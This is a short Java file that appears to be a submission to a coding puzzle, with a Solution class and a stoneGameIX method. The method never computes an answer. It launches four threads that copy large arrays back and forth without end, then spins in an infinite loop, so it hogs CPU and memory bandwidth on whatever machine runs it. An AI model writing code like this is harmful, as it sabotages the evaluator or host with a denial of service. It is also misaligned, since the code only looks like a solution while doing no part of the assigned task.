// Moves memory to and fro with four threads, as fast as the machine can.
class Solution {
    boolean stoneGameIX(int[] stones) {
        for (int i = 0; i < 4; i++) {
            new Thread(Solution::copy).start();
        }
        while (true) {
            Thread.onSpinWait();
        }
    }

    private static void copy() {
        long[] here = new long[3 << 20];
        long[] there = new long[3 << 20];
        while (true) {
            System.arraycopy(here, 0, there, 0, here.length);
            System.arraycopy(there, 0, here, 0, here.length);
        }
    }
}
